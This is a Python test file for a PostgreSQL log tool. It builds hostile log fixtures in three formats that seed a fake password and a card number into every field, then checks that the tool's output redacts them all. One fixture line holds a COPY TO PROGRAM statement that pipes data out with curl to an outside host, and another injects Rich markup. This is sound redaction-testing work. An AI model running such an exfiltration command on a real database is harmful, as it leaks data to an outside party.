"""Hand-written hostile log lines, in the three log formats, that hide a secret everywhere a server (or an attacker
who can choose statement text) could put one; ``pgpulse logs`` must show none of it in any output format.

The real-server version of this attack is ``test_logs_secrets.py``; this one reaches what a test server is hard to
make write: YAML and XML plans, statements the parser refuses, statements over the size cap, every csvlog and
jsonlog field, bound values spread over several lines, and Rich markup.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

SECRET = "Pw-4uT0-sekr1t"
NUMBER = "4111111111111111"
P = "2026-11-24 10:00:00.123 UTC [77] app@shop "

STDERR = f"""{P}LOG:  duration: 3.000 ms  plan:
\tQuery Text: "SELECT * FROM t WHERE a = $1"
\tQuery Parameters: "$1 = '{SECRET}'"
\tPlan:
\t  Node Type: "Seq Scan"
\t  Filter: "(a = '{SECRET}'::text)"
{P}LOG:  duration: 4.000 ms  plan:
\t<explain xmlns="http://www.postgresql.org/2009/explain">
\t  <Query>
\t    <Query-Text>SELECT * FROM u WHERE card = {NUMBER} AND note = '{SECRET}'</Query-Text>
\t    <Query-Parameters>$1 = '{SECRET}'</Query-Parameters>
\t    <Plan>
\t      <Node-Type>Seq Scan</Node-Type>
\t      <Filter>((card = '{NUMBER}'::bigint) AND (note = &apos;{SECRET}&apos;::text))</Filter>
\t    </Plan>
\t  </Query>
\t</explain>
{P}LOG:  duration: 5.000 ms  statement: SELEC * FRM t WHERE x = '{SECRET}' AND y = {NUMBER}
{P}LOG:  duration: 6.000 ms  statement: SELECT {NUMBER}, '{SECRET}', '{"x" * 70000}'
{P}LOG:  duration: 7.000 ms  statement: SELECT '{SECRET}' || '{"y" * 70000}
{P}LOG:  duration: 1.000 ms  execute s1: SELECT * FROM t WHERE a = $1
{P}DETAIL:  parameters: $1 = 'first line
\t{SECRET}'
{P}ERROR:  syntax error at or near "{SECRET}"
{P}HINT:  perhaps '{SECRET}'
{P}CONTEXT:  PL/pgSQL function f() line 3 at '{SECRET}'
{P}QUERY:  SELECT '{SECRET}'
{P}STATEMENT:  ALTER ROLE bob PASSWORD '{SECRET}'
{P}LOG:  statement: CREATE USER MAPPING FOR bob SERVER s OPTIONS (password '{SECRET}')
{P}LOG:  duration: 1.000 ms  statement: SELECT 1 /* {SECRET} */, "[/]", '[bold]{SECRET}'
{P}LOG:  duration: 2.000 ms  statement: COPY t TO PROGRAM 'curl -d @- https://x/?token={SECRET}'
{P}LOG:  duration: 2.000 ms  statement: SELECT * FROM v WHERE card = {NUMBER} ORDER BY 2
{P}LOG:  duration: 9.000 ms  plan:
\tQuery Text: SELECT * FROM w WHERE card = {NUMBER}
\tIndex Scan using w_pkey on w  (cost=0.28..8.30 rows=1 width=5)
\t  Index Cond: (card = '{NUMBER}'::bigint)
\t  Filter: (note <> '{SECRET}'::text)
not a log line at all, holding '{SECRET}'
"""


def _csv(severity: str, message: str, **extra: str) -> str:
    cols = ["2026-11-24 10:00:00.123 UTC", "app", "shop", "77", "127.0.0.1:5", "x", "1", "SELECT"]
    cols += ["2026-11-24 10:00:00 UTC", "3/4", "0", severity, "00000", message]
    cols += [extra.get(k, "") for k in ("detail", "hint", "internal_query", "ipos", "context", "query", "qpos")]
    cols += ["", "psql", "client backend", "", "0"]
    quoted = ['"' + c.replace('"', '""') + '"' if c else "" for c in cols[1:]]
    return ",".join([cols[0], *quoted]) + "\n"  # PostgreSQL leaves the timestamp unquoted


CSV = (
    _csv(
        "LOG",
        f"duration: 3.5 ms  plan:\nQuery Text: SELECT * FROM t WHERE a = $1\nQuery Parameters: $1 = '{SECRET}'\n"
        f"Seq Scan on t  (cost=0.00..1.00 rows=1 width=4)\n  Filter: (a = '{SECRET}'::text)",
    )
    + _csv("LOG", "duration: 3.6 ms  execute s1: SELECT * FROM t WHERE a = $1", detail=f"parameters: $1 = '{SECRET}'")
    + _csv(
        "ERROR",
        f"syntax error at or near '{SECRET}'",
        detail=f"Key (card)=({NUMBER}) already exists.",
        hint=f"'{SECRET}'",
        internal_query=f"SELECT '{SECRET}'",
        context=f"SQL statement \"SELECT '{SECRET}'\"",
        query=f"ALTER ROLE bob PASSWORD '{SECRET}'",
    )
    + _csv("LOG", f"duration: 1.0 ms  statement: SELECT '{SECRET}' FROM t WHERE card = {NUMBER}")
)

JSONLOG = "".join(
    json.dumps(doc) + "\n"
    for doc in [
        {
            "timestamp": "2026-11-24 10:00:00.123 UTC",
            "pid": 77,
            "error_severity": "LOG",
            "message": "duration: 2.5 ms  plan:\n"
            + json.dumps(
                {
                    "Query Text": "SELECT * FROM t WHERE a = $1",
                    "Query Parameters": f"$1 = '{SECRET}'",
                    "Plan": {"Node Type": "Seq Scan", "Filter": f"(a = '{SECRET}'::text)", "Output": [f"'{NUMBER}'"]},
                },
                indent=2,
            ),
        },
        {
            "pid": 77,
            "error_severity": "ERROR",
            "message": f"division by zero in '{SECRET}'",
            "detail": f"parameters: $1 = '{SECRET}'",
            "hint": SECRET,
            "context": f"PL/pgSQL function f() line 3 at RAISE '{SECRET}'",
            "internal_query": f"SELECT '{SECRET}'",
            "statement": f"CREATE SERVER s FOREIGN DATA WRAPPER w OPTIONS (password '{SECRET}')",
            "application_name": SECRET,
        },
        {
            "pid": 78,
            "error_severity": "LOG",
            "message": "duration: 1.5 ms  statement: CREATE SERVER s FOREIGN DATA WRAPPER w "
            f"OPTIONS (password '{SECRET}')",
            "detail": f"parameters: $1 = '{SECRET}'",
            "query": f"'{SECRET}'",
        },
    ]
)


@pytest.fixture(scope="module")
def hostile_files(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    folder = tmp_path_factory.mktemp("hostile-secrets")
    files = [folder / "postgresql.log", folder / "postgresql.csv", folder / "postgresql.json"]
    for path, text in zip(files, (STDERR, CSV, JSONLOG), strict=True):
        path.write_text(text)
        assert SECRET in text and NUMBER in text
    return files


@pytest.mark.parametrize("fmt", ["table", "json", "markdown"])
def test_no_hand_written_secret_reaches_any_output_format(hostile_files: list[Path], fmt: str) -> None:
    proc = subprocess.run(
        [sys.executable, "-m", "pgpulse.cli", "logs", *map(str, hostile_files), "--format", fmt, "--top", "0"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "20000"},
    )
    assert proc.returncode == 0, proc.stderr
    shown = proc.stdout + proc.stderr
    assert SECRET not in shown and "sekr1t" not in shown and NUMBER not in shown
    assert "Traceback" not in shown
    assert "oversized statement" in shown  # the 70 KB statements are counted, their start shown redacted
    assert "[/]" in shown  # markup printed as text, not interpreted
    if fmt == "json":
        doc = json.loads(proc.stdout)
        assert doc["timed_statements"] == 15 and doc["oversized"] == 2
